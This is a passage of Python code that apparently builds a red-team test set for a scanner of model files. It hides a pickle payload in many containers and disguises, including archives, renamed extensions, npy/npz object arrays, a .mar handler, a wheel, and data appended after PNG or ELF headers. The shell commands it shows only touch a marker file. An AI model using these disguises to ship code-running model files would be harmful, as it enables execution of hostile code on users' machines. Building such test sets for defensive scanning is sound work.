    for title, wrapped in {"bytes": HOSTILE, "in-pickle": pickle(HOSTILE), "zip": torch_zip(HOSTILE), "gzip": gzip.compress(HOSTILE)}.items():
        yield f"kept-{title}.pkl", pickle({"weights": wrapped, "epoch": 1})


def containers():
    for ending in ("bin", "pt", "pth", "ckpt", "pkl", "dat", "joblib", "npy", "npz", "mar", "model", "h5", "keras", "safetensors", "gguf", "onnx", "tflite", "pb", "msgpack", "json", "txt", "png", "md", "weights", "params", "pdparams", "nemo", "skops", "mlmodel", "rds"):
        yield f"named.{ending}", HOSTILE
        yield f"archive-named.{ending}", torch_zip(HOSTILE)
    yield "no-name-at-all", HOSTILE
    yield "pdparams-state.pdparams", pickle({"linear.weight": RUN}, 2)
    yield "tar-gz.tar.gz", tarred([("model/weights.bin", HOSTILE)], "w:gz")
    yield "tar-xz.tar.xz", tarred([("model/weights.bin", HOSTILE)], "w:xz")
    yield "tar-in-zip.zip", zipped([("a.tar", tarred([("x", HOSTILE)]))])
    yield "nemo-checkpoint.nemo", tarred([("model_config.yaml", b"name: x\n"), ("model_weights.ckpt", torch_zip(HOSTILE))])
    yield "mar-handler.mar", zipped([("MAR-INF/MANIFEST.json", b'{"model":{"handler":"h.py"}}'), ("h.py", b"import os\nos.system('touch modelgate-red-team-marker')\n"), ("w.pt", HONEST)])
    yield "npz-object.npz", zipped([("a.npy", npy(HOSTILE))])
    yield "npz-pickle-member.npz", zipped([("a.npy", npy(bytes(8), descr="<f4", shape="(2,)")), ("b.npy", HOSTILE)])
    yield "npy-structured-object.npy", npy(HOSTILE, descr="[('a', '<f4'), ('b', 'O')]")
    yield "keras-joblib.keras", zipped([("config.json", b"{}"), ("metadata.json", b"{}"), ("model.weights.h5", HOSTILE)])
    yield "wheel.whl", zipped([("evil/__init__.py", b"import os\nos.system('true')\n"), ("evil/w.pkl", HOSTILE)])
    yield "png-tail.png", b"\x89PNG\r\n\x1a\n" + bytes(64) + HOSTILE
    yield "executable-head.bin", b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(100) + HOSTILE
    yield "shebang.bin", b"#!/bin/sh\ntouch modelgate-red-team-marker\nexit 0\n" + bytes(1000)


def files():
    for index, full in enumerate(ALIASES.split()):
        yield f"alias/{full}.pkl", pickle(call(module_called(full), MARKER), 4, framed=index % 2 == 0)
    for index, (full, arguments) in enumerate(CALLS.items()):
        yield f"call/{full}.{('pkl', 'bin', 'pt', 'joblib')[index % 4]}", pickle(call(dotted(full, index % 2), *arguments), 4)
    for index, (title, value) in enumerate(states()):
        yield f"state/{title}.pkl", pickle(value, (2, 4)[index % 2])
        yield f"state/{title}.pt", torch_zip(pickle(value, 2))
    for group in (broken, nested, containers):
        for title, content in group():
            yield f"{group.__name__}/{title}", content
